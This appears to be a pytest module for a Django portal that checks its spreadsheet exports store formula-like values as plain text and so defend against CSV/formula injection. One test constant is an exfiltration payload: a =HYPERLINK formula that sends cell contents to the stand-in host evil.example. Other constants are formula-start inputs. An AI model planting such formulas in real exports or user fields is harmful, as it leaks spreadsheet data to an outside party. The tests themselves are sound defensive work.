"""Spreadsheets hold text only: in every export (the requests XLSX and CSV,
the SPANC folder XLSX, each modeladmin ``list_export``), a client named
``=1+2`` and a message ``=HYPERLINK(...)`` are read back as strings, never
as formulas. One function decides (aquatiris_portal/spreadsheets.py)."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client as HttpClient
from django.urls import reverse
from openpyxl import load_workbook

from aquatiris_portal.backoffice.groups import CUSTOMER_SERVICE, ensure_groups
from aquatiris_portal.spreadsheets import FORMULA_STARTS, is_formula_like, safe_cell
from tests import factories
from tests.unit._pro_space import pro_space_page, verified_client

NAME = "=1+2"
LINK = '=HYPERLINK("https://evil.example/?leak="&A2&B2,"Cliquez ici")'
PHONE = "+33 6 00 00 00 01"
TAB = "\t=1+2"


def test_safe_cell_quotes_every_formula_start_and_nothing_else():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for start in FORMULA_STARTS:
        assert safe_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"
        assert is_formula_like(start + "x")
    for value in ("Durand", "12 rue des Roseaux", "", " =1", "a=b", 12, None, 1.5):
        assert safe_cell(value) == value and not is_formula_like(value)


def _xlsx_values(body):
    sheet = load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows()]


def _assert_text_cells(rows, *values):
    """Each value is in the sheet as a string cell holding exactly that text."""
    cells = {cell.value: cell for row in rows for cell in row if cell.value is not None}
    for value in values:
        assert value in cells, (value, list(cells))
        assert cells[value].data_type == "s", (value, cells[value].data_type)


def _assert_csv_quoted(rows, *values):
    flat = [cell for row in rows for cell in row]
    for value in values:
        assert "'" + value in flat, (value, flat)
        assert value not in flat


# --- the requests export (a background job) -------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
def test_requests_export_writes_names_and_messages_as_text(client, stub_broker, worker, export_format):
    from tests.unit.backoffice.test_backoffice import make_request, staff
    from tests.unit.enquiries.test_request_exports import ask, download, run_jobs

    installation = factories.installation(client=factories.client(last_name=NAME, first_name=TAB, phone=PHONE))
    make_request(installation, "question", message=LINK)
    staff(client, CUSTOMER_SERVICE)
    export = ask(client, {"export": export_format})
    run_jobs(stub_broker, worker)
    export.refresh_from_db()
    body = download(client, export)
    if export_format == "xlsx":
        _assert_text_cells(_xlsx_values(body), NAME, LINK, PHONE, TAB)
    else:
        _assert_csv_quoted(list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), NAME, LINK, PHONE)


# --- the SPANC folder export ------------------------------------------------------


@pytest.mark.django_db
def test_spanc_folder_export_writes_names_as_text():
    page = pro_space_page()
    spanc = factories.spanc()
    factories.installation(spanc=spanc, client=factories.client(last_name=NAME, first_name=LINK), city="@SUM(1)")
    http = verified_client(factories.spanc_user(spanc))
    response = http.get(page.url + "export/")
    assert response.status_code == 200
    _assert_text_cells(_xlsx_values(b"".join(response.streaming_content)), f"{NAME} {LINK}", "@SUM(1)")


# --- every modeladmin list_export ---------------------------------------------------


def _records():
    franchisee = factories.franchisee(company=NAME, first_name=LINK, last_name="-2+3", phone=PHONE)
    spanc = factories.spanc(name=NAME, address_line1=LINK)
    client = factories.client(last_name=NAME, first_name=LINK, address_line1="-2+3")
    installation = factories.installation(client=client, franchisee=franchisee, spanc=spanc, label=LINK, city="@SUM(1)")
    factories.document(installation, title=LINK)
    return {
        "franchisee": (NAME, LINK, "-2+3"),
        "spanc": (NAME, LINK),
        "client": (NAME, LINK, "-2+3"),
        "installation": (LINK, "@SUM(1)"),
        "portaldocument": (LINK,),
    }


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
@pytest.mark.parametrize("model", ["franchisee", "spanc", "client", "installation", "portaldocument"])
def test_each_modeladmin_export_writes_text(model, export_format):
    values = _records()[model]
    ensure_groups()
    user = factories.user()
    user.groups.add(Group.objects.get(name=CUSTOMER_SERVICE))
    http = HttpClient()
    factories.otp_login(http, user)
    response = http.get(reverse(f"aquatiris_portal_{model}_modeladmin_index"), {"export": export_format})
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "xlsx":
        _assert_text_cells(_xlsx_values(body), *values)
    else:
        _assert_csv_quoted(list(csv.reader(io.StringIO(body.decode("utf-8-sig")))), *values)
